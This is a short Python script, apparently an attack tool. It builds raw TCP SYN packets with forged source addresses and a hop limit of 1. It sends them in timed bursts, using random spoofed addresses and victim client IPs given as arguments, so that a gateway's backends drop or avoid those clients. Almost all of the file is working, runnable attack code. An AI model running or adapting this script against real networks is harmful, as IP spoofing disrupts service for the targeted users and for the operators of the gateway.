#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""forge.py ADDR PORT CLIENT CLIENT: SYNs that end at the gateway (their hop limit is 1), until
it is killed. There are two backends. A forged client is dropped at one of them, and then often
at the other one, which looks busy for that: its clients avoid it. Then both clients are dropped
at the first one, and, when that will have been forgotten soon, at the other one.
"""
import random
import socket
import struct
import sys
import time

ADDR, PORT = sys.argv[1], int(sys.argv[2])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def checksum(data):
    total = sum(struct.unpack(f'!{len(data) // 2}H', data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def syn(client):
    ends = socket.inet_aton(client) + socket.inet_aton(ADDR)
    tcp = struct.pack('!HHIIBBHHH', random.randrange(1024, 65000), PORT,
                      random.randrange(1 << 32), 0, 5 << 4, 2, 65535, 0, 0)
    check = checksum(ends + struct.pack('!BBH', 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack('!H', check) + tcp[18:]
    ip = struct.pack('!BBHHHBBH', 0x45, 0, 40, random.randrange(65536), 0, 1, 6, 0)
    raw.sendto(ip + ends + tcp, (ADDR, 0))


while True:
    forged = f'10.79.{random.randrange(256)}.{random.randrange(1, 255)}'
    syn(forged)
    time.sleep(0.15)
    for _ in range(30):
        syn(forged)
    time.sleep(0.05)
    for client in sys.argv[3:]:
        syn(client)
    time.sleep(0.95)
    for _ in range(15):
        for client in sys.argv[3:]:
            syn(client)
    time.sleep(5)
